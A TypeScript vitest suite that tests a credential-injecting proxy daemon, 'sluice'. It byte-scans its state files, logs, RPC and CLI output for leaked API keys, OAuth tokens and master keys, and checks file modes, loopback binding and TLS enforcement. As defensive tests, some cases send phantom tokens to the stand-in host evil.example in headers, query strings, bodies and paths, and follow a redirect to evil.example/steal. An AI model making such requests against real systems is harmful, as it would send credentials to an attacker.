/**
 * Security (issue 10, "Security"), checked by scanning bytes after a full scenario rather than by trusting
 * any one code path: API-key credentials, a pool that fails over, an OAuth credential refreshed through the
 * proxy against a fake token endpoint, a WebSocket message carrying a phantom, denied / leaked / capped /
 * failed requests, a redirect, RPC calls (results *and* errors), events, and `sluicectl` output in plain
 * and `--json` form. Afterwards no real secret — API keys, OAuth access/refresh/id tokens, the master key
 * (raw, hex, base64), and the proxy access token outside the places it belongs — may appear in the DB file
 * and WAL, the log, audit rows, RPC results, events, CLI output, or anything the agent received.
 * Also: file modes, loopback-only listening sockets (and the default listen address), a socket directory
 * owned by another user, and upstream TLS that cannot be skipped (wrong host name, TLS ≤ 1.1, plain HTTP).
 */
import fs from 'node:fs';
import http from 'node:http';
import https from 'node:https';
import type net from 'node:net';
import path from 'node:path';
import type { ProxyAgent } from 'undici';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { connectDaemon, RpcError, type DaemonClient } from '../../src/shared/rpc/client.js';
import type { SluiceEvent } from '../../src/shared/protocol/events.js';
import { shortTempDir, startDaemon, type TestDaemon } from '../fakes/daemon-harness.js';
import { startFakeOAuth, type FakeOAuth } from '../fakes/fake-oauth.js';
import { startFakeUpstream, UPSTREAM_CA, type FakeUpstream } from '../fakes/fake-upstream.js';
import { openWebSocket } from '../fakes/ws-through-proxy.js';
import { daemonEnv, listeningTcp, mapLimit, runCli, runDaemonOnce, scanFor, secretForms, type ProcResult } from '../fakes/reliability-helpers.js';
import { basicAuth, defaultResolvePairs, fakeSecret, openStream, rawProxy, resolveSpec, sleep, tokenOf, waitFor, within } from './helpers.js';
import { listenOnLoopback } from '../fakes/loopback-server.js';

const ANT = 'api.anthropic.com';
const OAI = 'api.openai.com';
const AUTH = 'auth.openai.com';
const TOKEN_URL = `https://${AUTH}/oauth/token`;

/** A plain-HTTP upstream that records what reached it (for the "TLS cannot be skipped" check). */
async function startPlainRecorder(): Promise<{ port: number; seen: { url: string; headers: http.IncomingHttpHeaders }[]; close(): Promise<void> }> {
  const seen: { url: string; headers: http.IncomingHttpHeaders }[] = [];
  const server = http.createServer((req, res) => {
    seen.push({ url: req.url ?? '', headers: req.headers });
    req.resume();
    res.writeHead(200, { 'content-type': 'application/json', 'content-length': 11 });
    res.end('{"ok":true}');
  });
  const listening = await listenOnLoopback(server);
  return { port: listening.port, seen, close: listening.close };
}

/** An HTTPS upstream with a trusted certificate that only speaks TLS 1.0/1.1. */
async function startOldTlsUpstream(): Promise<{ port: number; seen: string[]; close(): Promise<void> }> {
  const dir = path.join(path.dirname(UPSTREAM_CA));
  const seen: string[] = [];
  const server = https.createServer(
    {
      key: fs.readFileSync(path.join(dir, 'upstream-key.pem')),
      cert: fs.readFileSync(path.join(dir, 'upstream-cert.pem')),
      minVersion: 'TLSv1',
      maxVersion: 'TLSv1.1',
      ciphers: 'DEFAULT:@SECLEVEL=0',
    },
    (req, res) => {
      seen.push(`${req.url} ${JSON.stringify(req.headers)}`);
      res.end('{}');
    },
  );
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return { port: (server.address() as net.AddressInfo).port, seen, close: () => new Promise<void>((r) => server.close(() => r())) };
}

let upstream: FakeUpstream;
let oauth: FakeOAuth;
let plain: Awaited<ReturnType<typeof startPlainRecorder>>;
let oldTls: Awaited<ReturnType<typeof startOldTlsUpstream>>;
let d: TestDaemon;
let disp: ProxyAgent;
let events: SluiceEvent[] = [];
let subscriber: DaemonClient;

/** Everything the agent received: status line, headers and body of each response, WebSocket messages. */
const agentSaw: string[] = [];
/** Every RPC result and RPC error message. */
const rpcSaw: unknown[] = [];
/** RPC results in which the proxy token may legitimately appear (proxy.env). */
const rpcTokenAllowed: unknown[] = [];
/** CLI output, with a flag for outputs that may carry the proxy token (`sluicectl env`). */
const cliSaw: { args: string[]; out: ProcResult; tokenAllowed: boolean }[] = [];

/** Real secrets by name (filled in as the scenario creates them). */
const secrets: Record<string, string> = {};

async function rpc<M extends Parameters<DaemonClient['call']>[0]>(
  method: M,
  params?: Parameters<DaemonClient['call']>[1] & object,
): Promise<Awaited<ReturnType<DaemonClient['call']>>> {
  try {
    const r = await d.client.call(method, params as never);
    (method === 'proxy.env' ? rpcTokenAllowed : rpcSaw).push({ method, r });
    return r;
  } catch (err) {
    rpcSaw.push({ method, error: err instanceof RpcError ? { code: err.code, message: err.message, data: err.data } : String(err) });
    throw err;
  }
}

/** A request through the proxy; everything that came back is recorded for the scan. */
async function agent(url: string, init: { method?: string; headers?: Record<string, string>; body?: string } = {}, through: ProxyAgent = disp) {
  const res = await openStream(url, through, { method: init.method, headers: init.headers, body: init.body });
  let text = '';
  let bodyError = '';
  try {
    text = await res.body.text();
  } catch (err) {
    bodyError = String(err);
  }
  agentSaw.push(`${res.statusCode}\n${JSON.stringify(res.headers)}\n${text}${bodyError}`);
  return { status: res.statusCode, headers: res.headers, text, bodyError };
}

async function cli(
  args: string[],
  opts: { input?: string; tokenAllowed?: boolean; timeoutMs?: number; onStdout?: (s: string) => void; signal?: AbortSignal } = {},
) {
  const out = await runCli(args, d.socket, { input: opts.input, timeoutMs: opts.timeoutMs, onStdout: opts.onStdout, signal: opts.signal });
  cliSaw.push({ args, out, tokenAllowed: opts.tokenAllowed ?? false });
  return out;
}

beforeAll(async () => {
  upstream = await startFakeUpstream();
  oauth = await startFakeOAuth();
  plain = await startPlainRecorder();
  oldTls = await startOldTlsUpstream();
  const pairs = defaultResolvePairs().filter(([h]) => h !== AUTH);
  const resolve = [
    resolveSpec(upstream.port, [...pairs, ['nosan.example', 443]]),
    `${AUTH}:443:127.0.0.1:${oauth.port}`,
    `${ANT}:80:127.0.0.1:${plain.port}`,
    `oldtls.example:443:127.0.0.1:${oldTls.port}`,
  ].join(',');
  d = await startDaemon({ upstreamPort: upstream.port, env: { SLUICE_RESOLVE: resolve } });
  disp = d.dispatcher();
  subscriber = await connectDaemon({ socketPath: d.socket, timeoutMs: 10_000 });
  await subscriber.call('events.subscribe', {});
  subscriber.onEvent((e) => events.push(e));
});

afterAll(async () => {
  subscriber?.close();
  await disp?.destroy().catch(() => {});
  await d?.stop();
  await Promise.all([upstream?.close(), oauth?.close(), plain?.close(), oldTls?.close()]);
});

describe('the full scenario, then a byte scan for every secret', () => {
  // One scenario in three steps that run in order and share what they made (one test took 34-52 s on a
  // busy machine): the traffic, the RPC and CLI clients, then the scan of everything all of them saw.
  let ant: { phantom: string };
  let oai: { phantom: string };
  let pool: { phantom: string };
  let codex: { phantom: string; phantom_refresh: string };
  let masterKey: Buffer;
  let proxyToken: string;
  let refresh: Awaited<ReturnType<typeof agent>>;

  test('scenario, traffic: api keys, pool failover, OAuth refresh, WebSocket, denied, leaked, capped, failed, redirect', async () => {
    for (const host of [ANT, OAI, AUTH, 'evil.example']) await rpc('rule.add', { verdict: 'allow', host });
    await rpc('rule.add', { verdict: 'deny', host: 'other.example' });

    // API-key credentials.
    secrets.ant = fakeSecret('sk-ant-api03-');
    secrets.oai = fakeSecret('sk-proj-');
    ant = (await rpc('cred.add', { name: 'ant', hosts: [ANT], header: 'x-api-key', secret: secrets.ant })) as { phantom: string };
    oai = (await rpc('cred.add', { name: 'oai', hosts: [OAI], header: 'authorization', format: 'Bearer {}', secret: secrets.oai })) as { phantom: string };
    // A pool whose first member is rate-limited.
    secrets.pa = fakeSecret('sk-ant-api03-');
    secrets.pb = fakeSecret('sk-ant-api03-');
    await rpc('cred.add', { name: 'pa', hosts: [ANT], header: 'x-api-key', secret: secrets.pa });
    await rpc('cred.add', { name: 'pb', hosts: [ANT], header: 'x-api-key', secret: secrets.pb });
    pool = (await rpc('pool.create', { name: 'pool', members: ['pa', 'pb'] })) as { phantom: string };
    // An OAuth credential (tokens from the fake token endpoint).
    const acct = oauth.addAccount('acct1');
    secrets.oauth_access = acct.access_token;
    secrets.oauth_refresh = acct.refresh_token;
    secrets.oauth_id_sig = acct.id_token.split('.')[2]!;
    codex = (await rpc('cred.add', {
      name: 'codex',
      kind: 'oauth',
      hosts: [OAI, 'chatgpt.com'],
      header: 'authorization',
      format: 'Bearer {}',
      token_url: TOKEN_URL,
      secret: JSON.stringify({
        access_token: acct.access_token,
        refresh_token: acct.refresh_token,
        id_token: acct.id_token,
        expires_at: Date.now() + 3600_000,
      }),
    })) as { phantom: string; phantom_refresh: string };
    // The master key and the proxy token.
    masterKey = fs.readFileSync(path.join(d.home, 'master.key'));
    expect(masterKey).toHaveLength(32);
    proxyToken = tokenOf(d);

    // RPC errors carrying a secret in their params must not echo it.
    await expect(rpc('cred.add', { name: 'ant', hosts: [ANT], secret: secrets.ant })).rejects.toThrow();
    await expect(rpc('cred.add', { name: 'bad name!', hosts: [ANT], secret: secrets.oai })).rejects.toThrow();
    await expect(
      rpc('cred.add', { name: 'oauthbad', kind: 'oauth', hosts: [OAI], token_url: TOKEN_URL, secret: `{"access_token":"${secrets.oai}"}` }),
    ).rejects.toThrow();

    // Traffic.
    expect(
      (
        await agent(`https://${ANT}/v1/messages`, {
          method: 'POST',
          headers: { 'x-api-key': ant.phantom, 'content-type': 'application/json' },
          body: `{"note":"${ant.phantom}"}`,
        })
      ).status,
    ).toBe(200);
    expect((await agent(`https://${OAI}/v1/chat?key=${oai.phantom}`, { headers: { authorization: `Bearer ${oai.phantom}` } })).status).toBe(200);
    expect((await agent(`https://${ANT}/sse?n=3&gap=10`, { headers: { 'x-api-key': ant.phantom } })).status).toBe(200);
    upstream.keyStatus.set(secrets.pa, {
      status: 429,
      headers: { 'retry-after': '120' },
      body: JSON.stringify({ type: 'error', error: { type: 'rate_limit_error', message: 'limit' } }),
    });
    expect((await agent(`https://${ANT}/v1/pooled`, { headers: { 'x-api-key': pool.phantom } })).status).toBe(200);
    upstream.keyStatus.delete(secrets.pa);
    expect(upstream.seen.some((s) => s.headers['x-api-key'] === secrets.pb)).toBe(true);
    await rpc('pool.rotate', { name: 'pool' });
    // OAuth: an API call, then a refresh through the proxy (the agent only ever holds phantoms), then another call.
    expect((await agent(`https://${OAI}/v1/oauth-call-1`, { headers: { authorization: `Bearer ${codex.phantom}` } })).status).toBe(200);
    refresh = await agent(TOKEN_URL, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ grant_type: 'refresh_token', refresh_token: codex.phantom_refresh, client_id: 'app_test' }),
    });
    expect(refresh.status).toBe(200);
    expect(oauth.seen.at(-1)?.refresh_token).toBe(secrets.oauth_refresh); // the real one reached the token endpoint
    const rotated = oauth.accounts.get('acct1')!;
    secrets.oauth_access2 = rotated.access_token;
    secrets.oauth_refresh2 = rotated.refresh_token;
    secrets.oauth_id_sig2 = rotated.id_token.split('.')[2]!;
    expect(JSON.parse(refresh.text)).toMatchObject({ access_token: codex.phantom, refresh_token: codex.phantom_refresh });
    expect((await agent(`https://${OAI}/v1/oauth-call-2`, { headers: { authorization: `Bearer ${codex.phantom}` } })).status).toBe(200);
    expect(upstream.seen.find((s) => s.path === '/v1/oauth-call-2')?.headers.authorization).toBe(`Bearer ${secrets.oauth_access2}`);
    // WebSocket: a phantom inside a client message.
    const ws = await openWebSocket({
      proxyPort: d.proxyPort,
      token: proxyToken,
      caPath: d.caPath,
      host: OAI,
      path: '/v1/responses',
      headers: { authorization: `Bearer ${oai.phantom}` },
    });
    expect('ws' in ws).toBe(true);
    if ('ws' in ws) {
      const got = new Promise<string>((r) => ws.ws.once('message', (m) => r(m.toString())));
      ws.ws.send(`{"type":"response.create","key":"${oai.phantom}"}`);
      const msg = await got;
      agentSaw.push(`WS ${msg}`);
      expect(msg).toContain(oai.phantom); // the echo of the real secret came back masked
      ws.ws.close();
    }
    // Denied, leaked (header, query, body), redirect, capped, failed upstreams, no proxy token.
    expect((await agent('https://other.example/denied', { headers: { 'x-api-key': ant.phantom } })).status).toBe(403);
    expect((await agent('https://evil.example/leak-h', { headers: { 'x-api-key': ant.phantom } })).status).toBe(403);
    expect((await agent(`https://evil.example/leak-q?k=${codex.phantom}`)).status).toBe(403);
    expect(
      (
        await agent('https://evil.example/leak-b', {
          method: 'POST',
          headers: { 'content-type': 'application/json' },
          body: JSON.stringify({ rt: codex.phantom_refresh, k: pool.phantom }),
        })
      ).status,
    ).toBe(403);
    expect((await agent(`https://evil.example/leak-p/${oai.phantom}/x`)).status).toBe(403);
    const leakRows = await waitFor(async () => {
      const rows = (await d.client.call('audit.tail', { n: 500 })).rows.filter((r) => r.event === 'phantom_leak' && r.host === 'evil.example');
      return rows.length >= 4 ? rows : null;
    }, 'four phantom_leak audit rows');
    expect(leakRows.map((r) => r.path?.split('/')[1])).toEqual(['leak-h', 'leak-q', 'leak-b', 'leak-p']);
    expect(upstream.seen.filter((s) => s.path.startsWith('/leak-'))).toEqual([]);
    const redirect = await agent(`https://${ANT}/redirect`, { headers: { 'x-api-key': ant.phantom } });
    expect(redirect.status).toBe(302);
    expect(redirect.headers.location).toBe('https://evil.example/steal');
    expect(upstream.seen.filter((s) => s.path === '/steal')).toEqual([]); // never followed (evil.example maps to the same fake)
    await rpc('limits.set', { cred: 'oai', max_concurrent: 1 });
    const ctl = new AbortController();
    const holding = openStream(`https://${OAI}/hang`, disp, { headers: { authorization: `Bearer ${oai.phantom}` }, signal: ctl.signal }).catch(() => null);
    await waitFor(async () => ((await d.client.call('stats.snapshot')).credentials.find((c) => c.name === 'oai')?.in_flight ?? 0) === 1, 'oai in flight');
    expect((await agent(`https://${OAI}/v1/capped`, { headers: { authorization: `Bearer ${oai.phantom}` } })).status).toBe(429);
    ctl.abort();
    await holding;
    expect((await agent(`https://${ANT}/reset`, { headers: { 'x-api-key': ant.phantom } })).status).toBe(502);
    expect((await agent(`https://${ANT}/status/401`, { headers: { 'x-api-key': ant.phantom } })).status).toBe(401);
    const noToken = d.dispatcher(null);
    try {
      await agent(`https://${ANT}/v1/no-token`, { headers: { 'x-api-key': ant.phantom } }, noToken).catch((err: unknown) => agentSaw.push(String(err)));
    } finally {
      await noToken.destroy().catch(() => {});
    }
    agentSaw.push((await rawProxy(d.proxyPort, `GET http://${ANT}/v1/plain-no-token HTTP/1.1\r\nHost: ${ANT}\r\nx-api-key: ${ant.phantom}\r\n\r\n`)).text);
  });

  test('scenario, clients: every read-only RPC method, a few writes, sluicectl cred add/update (secret on stdin) and watch', async () => {
    // Every read-only RPC method, plus a few writes.
    for (const m of [
      'daemon.status',
      'proxy.env',
      'cred.list',
      'pool.list',
      'rule.list',
      'approval.list',
      'limits.get',
      'stats.snapshot',
      'audit.verify',
    ] as const)
      await rpc(m, {});
    await rpc('pool.status', {});
    await rpc('audit.tail', { n: 10_000 });
    await rpc('cred.update', { name: 'ant', max_concurrent: 7 });
    await rpc('pool.reset', { name: 'pool' });
    rpcSaw.push(await subscriber.call('events.subscribe', {}));

    // sluicectl, human and --json, including a credential added and updated through stdin.
    secrets.viacli = fakeSecret('sk-ant-api03-');
    secrets.viacli2 = fakeSecret('sk-ant-api03-');
    expect((await cli(['cred', 'add', 'viacli', '--host', 'cli.example', '--header', 'x-api-key'], { input: secrets.viacli + '\n' })).code).toBe(0);
    expect((await cli(['cred', 'update', 'viacli', '--secret-stdin'], { input: secrets.viacli2 + '\n' })).code).toBe(0);
    // The watcher runs until it has printed its snapshot and the request it was watching for (not for a
    // fixed time, which on a busy machine could end before it even subscribed).
    let watched = '';
    const stopWatching = new AbortController();
    const watching = cli(['watch', '--snapshot'], { timeoutMs: 20_000, signal: stopWatching.signal, onStdout: (out) => (watched = out) });
    await waitFor(() => watched.includes('"type":"snapshot"'), { what: 'sluicectl watch to print its snapshot', timeoutMs: 15_000 });
    await agent(`https://${ANT}/v1/while-watching`, { headers: { 'x-api-key': ant.phantom } });
    await waitFor(() => watched.includes('/v1/while-watching'), { what: 'sluicectl watch to print the request', timeoutMs: 15_000 });
    stopWatching.abort();
    await watching;
  });

  // Read-only commands, four at a time and split in two tests (29 node starts one after another took over
  // 30 s on a busy machine; their order does not matter to the scan).
  const READ_ONLY = [
    ['status'],
    ['cred', 'list'],
    ['pool', 'list'],
    ['pool', 'status'],
    ['rule', 'list'],
    ['approval', 'list'],
    ['limits', 'get'],
    ['stats'],
    ['audit', 'tail', '-n', '1000'],
    ['audit', 'verify'],
    ['rpc', 'cred.list'],
    ['doctor'],
  ];
  test('scenario, clients: sluicectl read-only commands, human output', async () => {
    await mapLimit(READ_ONLY, 4, (args) => cli(args));
  });

  test('scenario, clients: sluicectl read-only commands with --json, and env (which may show the proxy token)', async () => {
    await mapLimit(READ_ONLY, 4, (args) => cli(['--json', ...args]));
    await mapLimit([['env'], ['env', '--json'], ['env', '--shell', 'fish']], 3, (args) => cli(args, { tokenAllowed: true }));
  });

  test('the byte scan: no secret in anything the agent, RPC clients, sluicectl, the logs or the state files hold', async () => {
    // Every audit row the scenario caused is on disk before the state files are scanned: the last one is
    // the request made while watching (queued when its response ends), and audit.tail flushes the queue.
    await waitFor(async () => (await d.client.call('audit.tail', { n: 500 })).rows.some((r) => r.path === '/v1/while-watching'), {
      what: 'the audit row of /v1/while-watching',
    });
    // The test is sound: every needle is real and reached the right upstream.
    for (const k of ['ant', 'oai', 'pa', 'pb'])
      expect(
        upstream.seen.some((s) => JSON.stringify(s).includes(secrets[k]!)),
        k,
      ).toBe(true);
    expect(upstream.seen.some((s) => s.headers.authorization === `Bearer ${secrets.oauth_access}`)).toBe(true);
    expect(agentSaw.length).toBeGreaterThan(15);
    expect(cliSaw.length).toBeGreaterThan(25);
    expect(events.length).toBeGreaterThan(20);

    // The scan.
    const needles: Record<string, Buffer[]> = {};
    for (const [k, v] of Object.entries(secrets)) needles[k] = secretForms(v);
    needles.master_key = [masterKey, ...secretForms(masterKey).slice(1)];
    const tokenNeedle = { proxy_token: secretForms(proxyToken) };

    const home = d.home;
    const files: Record<string, Buffer> = {};
    const walk = (dir: string) => {
      for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
        const p = path.join(dir, e.name);
        if (e.isDirectory()) walk(p);
        else if (e.isFile()) files[path.relative(home, p)] = fs.readFileSync(p);
      }
    };
    walk(home);
    expect(Object.keys(files)).toEqual(expect.arrayContaining(['sluice.db', 'sluice.db-wal', 'sluiced.log']));
    const { 'master.key': _mk, 'proxy-token': _pt, ...otherFiles } = files;
    const cliText = (c: (typeof cliSaw)[number]) => `${c.out.stdout}\n${c.out.stderr}`;
    const hits = [
      ...scanFor(needles, { ...otherFiles, 'proxy-token': files['proxy-token'] ?? Buffer.alloc(0) }),
      ...scanFor(tokenNeedle, otherFiles),
      ...scanFor(
        { ...needles, ...tokenNeedle },
        {
          'daemon stderr': d.logs(),
          'RPC results and errors': JSON.stringify(rpcSaw),
          events: JSON.stringify(events),
          'responses to the agent': agentSaw.join('\n'),
          ...Object.fromEntries(cliSaw.filter((c) => !c.tokenAllowed).map((c) => [`sluicectl ${c.args.join(' ')}`, cliText(c)])),
        },
      ),
      ...scanFor(needles, {
        'proxy.env result': JSON.stringify(rpcTokenAllowed),
        ...Object.fromEntries(cliSaw.filter((c) => c.tokenAllowed).map((c) => [`sluicectl ${c.args.join(' ')}`, cliText(c)])),
      }),
    ];
    expect(hits).toEqual([]);
    // The scanner itself finds what it looks for, in every encoding it claims to cover.
    for (const planted of [secrets.ant!, Buffer.from(secrets.oauth_refresh2!).toString('base64'), masterKey.toString('hex'), masterKey.toString('base64')]) {
      expect(scanFor({ ...needles, ...tokenNeedle }, { probe: `..${planted}..` }).length, planted).toBeGreaterThan(0);
    }
    expect(scanFor(needles, { probe: Buffer.concat([Buffer.from('x'), masterKey, Buffer.from('y')]) })).toEqual(['probe contains master_key']);
    // ...and the token is where it belongs.
    expect(JSON.stringify(rpcTokenAllowed)).toContain(proxyToken);
    expect(cliSaw.filter((c) => c.tokenAllowed).every((c) => c.out.stdout.includes(proxyToken))).toBe(true);
    // The agent-facing phantom of the OAuth id_token carries no real signature.
    expect(refresh.text).not.toContain(secrets.oauth_id_sig2!);
  });

  test('after the scenario: owner-only modes on everything that holds a secret, nothing group/other-writable', () => {
    const mode = (p: string) => fs.statSync(path.join(d.home, p)).mode & 0o777;
    expect(mode('.')).toBe(0o700);
    expect(fs.statSync(d.socket).mode & 0o777).toBe(0o600);
    for (const f of ['master.key', 'proxy-token', 'ca/ca-key.pem', 'sluice.db', 'sluiced.log']) expect(mode(f), f).toBe(0o600);
    for (const f of ['sluice.db-wal', 'sluice.db-shm']) if (fs.existsSync(path.join(d.home, f))) expect(mode(f) & 0o077, f).toBe(0);
    const writable: string[] = [];
    const walk = (dir: string) => {
      for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
        const p = path.join(dir, e.name);
        if ((fs.lstatSync(p).mode & 0o022) !== 0) writable.push(path.relative(d.home, p));
        if (e.isDirectory()) walk(p);
      }
    };
    walk(d.home);
    expect(writable).toEqual([]);
  });

  test('every TCP socket the daemon listens on is loopback (only the proxy port)', () => {
    const socks = listeningTcp(d.proc.pid!);
    expect(socks.map((s) => s.port)).toEqual([d.proxyPort]);
    expect(socks.filter((s) => s.address !== '127.0.0.1' && s.address !== '::1')).toEqual([]);
  });
});

describe('upstream TLS cannot be skipped or downgraded', () => {
  test('a certificate for another host name (trusted CA, wrong SAN) → 502 upstream_tls, nothing reached the server', async () => {
    secrets.nosan = fakeSecret('sk-ant-api03-');
    await d.client.call('rule.add', { verdict: 'allow', host: 'nosan.example' });
    const c = await d.client.call('cred.add', { name: 'nosan', hosts: ['nosan.example'], header: 'x-api-key', secret: secrets.nosan });
    const from = upstream.seen.length;
    const r = await agent('https://nosan.example/v1/nosan', { headers: { 'x-api-key': c.phantom } });
    expect(r.status).toBe(502);
    expect(JSON.parse(r.text).sluice.code).toBe('upstream_tls');
    expect(upstream.seen.slice(from)).toEqual([]);
  });

  test('an upstream that only speaks TLS 1.0/1.1 → 502, nothing reached it', async () => {
    await d.client.call('rule.add', { verdict: 'allow', host: 'oldtls.example' });
    const c = await d.client.call('cred.add', { name: 'oldtls', hosts: ['oldtls.example'], header: 'x-api-key', secret: fakeSecret('sk-ant-api03-') });
    const r = await agent('https://oldtls.example/v1/old', { headers: { 'x-api-key': c.phantom } });
    expect(r.status).toBe(502);
    expect(oldTls.seen).toEqual([]);
  });

  test('a phantom sent over plain http:// to its bound host never puts the real secret on the wire in cleartext', async () => {
    const auth = basicAuth(tokenOf(d));
    const ant = (await d.client.call('cred.list')).credentials.find((c) => c.name === 'ant')!;
    const r = await rawProxy(
      d.proxyPort,
      `GET http://${ANT}/v1/cleartext HTTP/1.1\r\nHost: ${ANT}\r\nProxy-Authorization: ${auth}\r\nx-api-key: ${ant.phantom}\r\n\r\n`,
    );
    agentSaw.push(r.text);
    const leaked = plain.seen.filter((s) => JSON.stringify(s).includes(secrets.ant!));
    expect(
      leaked.map((s) => `${s.url} x-api-key=${String(s.headers['x-api-key']).slice(0, 16)}…`),
      `answered ${r.status}`,
    ).toEqual([]);
  });
});

describe('socket and listen address', () => {
  test('a socket directory owned by another user is refused before anything is created', async () => {
    const home = shortTempDir();
    const sockDir = shortTempDir('sko');
    try {
      fs.chmodSync(home, 0o700);
      fs.chmodSync(sockDir, 0o700);
      fs.chownSync(sockDir, 65534, 65534);
      const r = await runDaemonOnce(daemonEnv(home, { SLUICE_SOCKET: path.join(sockDir, 's.sock') }));
      expect(r.timedOut).toBe(false);
      expect(r.code).not.toBe(0);
      expect(r.stderr).toMatch(new RegExp(`${sockDir}.*(belongs to user 65534|owned by)`));
      expect(fs.readdirSync(sockDir)).toEqual([]);
      expect(fs.existsSync(path.join(home, 'master.key'))).toBe(false);
      expect(fs.existsSync(path.join(home, 'sluice.db'))).toBe(false);
    } finally {
      fs.rmSync(home, { recursive: true, force: true });
      fs.rmSync(sockDir, { recursive: true, force: true });
    }
  });

  test('with no SLUICE_PROXY_LISTEN the proxy binds 127.0.0.1:8787 (daemon.status), never a wildcard address', async () => {
    const home = shortTempDir();
    fs.chmodSync(home, 0o700);
    const env = daemonEnv(home, { SLUICE_PROXY_LISTEN: undefined });
    // The harness always sets SLUICE_PROXY_LISTEN, so spawn by hand; 8787 may be taken by another test run.
    const { spawn } = await import('node:child_process');
    const { BIN } = await import('../fakes/daemon-harness.js');
    const p = spawn(process.execPath, [BIN.daemon], { env, stdio: ['ignore', 'pipe', 'pipe'] });
    let err = '';
    p.stderr!.on('data', (c: Buffer) => (err += c.toString()));
    const exited = new Promise<number | null>((r) => p.once('exit', (code) => r(code)));
    try {
      let client: DaemonClient | null = null;
      const deadline = Date.now() + 20_000;
      while (!client && p.exitCode === null && Date.now() < deadline) {
        client = await connectDaemon({ socketPath: path.join(home, 'sluiced.sock'), timeoutMs: 5000 }).catch(() => null);
        if (!client) await sleep(50); // poll interval while the daemon starts (bounded by the deadline above)
      }
      if (client) {
        const st = await client.call('daemon.status');
        client.close();
        expect(st.proxy.listen).toBe('127.0.0.1:8787');
        const socks = listeningTcp(p.pid!);
        expect(socks).toContainEqual({ address: '127.0.0.1', port: 8787 });
        expect(socks.filter((s) => s.address !== '127.0.0.1')).toEqual([]);
      } else {
        // Someone else holds 8787: the refusal still shows the default is loopback.
        await exited;
        expect(err).toMatch(/EADDRINUSE.*127\.0\.0\.1:8787/);
      }
    } finally {
      if (p.exitCode === null) p.kill('SIGTERM');
      await within(exited, 10_000, 'the daemon to exit').catch(() => {});
      if (p.exitCode === null) p.kill('SIGKILL');
      fs.rmSync(home, { recursive: true, force: true });
    }
  });
});
